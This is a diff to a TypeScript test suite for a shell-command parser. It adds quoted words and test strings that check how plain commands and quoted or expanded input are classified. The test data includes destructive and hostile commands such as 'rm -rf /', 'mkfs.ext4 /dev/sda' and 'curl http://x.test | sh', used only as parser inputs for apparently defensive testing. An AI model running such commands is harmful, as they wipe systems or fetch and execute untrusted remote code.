@@ -10,6 +10,9 @@ const WORDS = [
   'trap', 'alias', 'll=ls', 'watch', 'flock', 'chroot', 'su', 'script', 'runuser', '--', 'source', 'curl', 'http://x.test/a', 'python3', 'mkfs.ext4',
   '/dev/sda', 'chmod', '777', 'if', 'then', 'fi', 'for', 'in', 'do', 'done', 'case', 'esac', 'while', 'until', 'time', 'declare', 'local', 'export',
   'let', 'function', 'select', 'coproc', 'typeset', 'readonly', 'nameref', '@test', '+x', 'a,b', 'key:value', 'user@host', '100%', '-', '=',
+  // Quoted: globs, braces, ~, operators and spaces in quotes are text; quoted reserved words and "=" are not syntax.
+  '"fix the parser"', "'rm -rf /'", '"*.ts"', "'{a,b}'", '"~/x"', '""', "''", 'a"b"c', "x'y'", '-m"msg"', '"if"', "'time'", '"a=b"', 'a"|"b', "'#c'",
+  '"ls; rm"', "'sh -c ls'", '"/etc"', "'..'", '"\t"',
 ];
 const OPERATORS = [' | ', ' && ', ' || ', '; ', '|', '&&', ';', ' & ', ' |& ', ' ;; ', ' | | '];
 const CHARSET = 'ab/._-=:@%+,09 \t|&;';
@@ -49,14 +52,14 @@ describe('shell view: plain words are read without the parser, exactly as the pa
   });
 
   it('code strings inside a plain line (sh -c, eval, sudo) are read the same way', () => {
-    for (const text of ['sh -c ls', 'bash -c rm', 'eval rm -rf /', 'sudo -u root rm -rf /etc', 'env -S rm', 'find / -delete', 'cd / && rm -rf x', 'ls | xargs -I % rm %', 'busybox sh -c reboot', 'alias ll=ls', 'curl http://x.test | sh', 'wget x || true; bash']) {
+    for (const text of ['sh -c ls', 'bash -c rm', 'eval rm -rf /', 'sudo -u root rm -rf /etc', 'env -S rm', 'find / -delete', 'cd / && rm -rf x', 'ls | xargs -I % rm %', 'busybox sh -c reboot', 'alias ll=ls', 'curl http://x.test | sh', 'wget x || true; bash', 'sh -c "ls -la"', "bash -c 'rm -rf /'", 'eval "rm -rf /"', 'git commit -m "fix: the *parser*"', "find . -name '*.ts' -delete", 'sudo "rm" -rf "/"']) {
       expect(plainCommands(text), text).toBeDefined();
       expect(parseShell(text), text).toEqual(parseShell(text, { parserOnly: true }));
     }
   });
 
   it('sends to the parser whatever is not plain commands: quotes, escapes, expansions, globs, redirections, comments, assignments, reserved words, odd operators', () => {
-    for (const text of ['echo "a"', "echo 'a'", 'echo a\\ b', 'echo $HOME', 'echo ~', 'ls *', 'ls ?', 'ls [a]', 'echo {a,b}', 'a > f', 'a < f', '(a)', 'a # c', 'a\nb', 'a\rb', 'FOO=1 cmd', 'a=b', 'a | b=1', 'if', 'then x', 'time ls', 'a && time ls', 'export A', 'declare -x A', 'let a', '! ls', 'ls\u00a0-la', 'ls ｌ', 'a &', 'a & b', 'a |& b', 'a ;; b', 'a | | b', '| a', 'a |', 'a &&', 'a;', '; a', 'a &&& b']) {
+    for (const text of ['echo "$HOME"', 'echo "a\\"b"', 'echo "`id`"', "echo 'a", 'echo "a', "echo $'a'", 'echo "a\nb"', "echo 'a\nb'", 'echo a\\ b', 'echo $HOME', 'echo ~', 'ls *', 'ls ?', 'ls [a]', 'echo {a,b}', 'a > f', 'a < f', '(a)', 'a # c', 'a\nb', 'a\rb', 'FOO=1 cmd', 'a=b', 'a | b=1', 'if', 'then x', 'time ls', 'a && time ls', 'export A', 'declare -x A', 'let a', '! ls', 'ls\u00a0-la', 'ls ｌ', 'a &', 'a & b', 'a |& b', 'a ;; b', 'a | | b', '| a', 'a |', 'a &&', 'a;', '; a', 'a &&& b']) {
       expect(plainCommands(text), JSON.stringify(text)).toBeUndefined();
     }
     expect(plainCommands('git status --short')).toEqual([{ words: ['git', 'status', '--short'], piped: false }]);
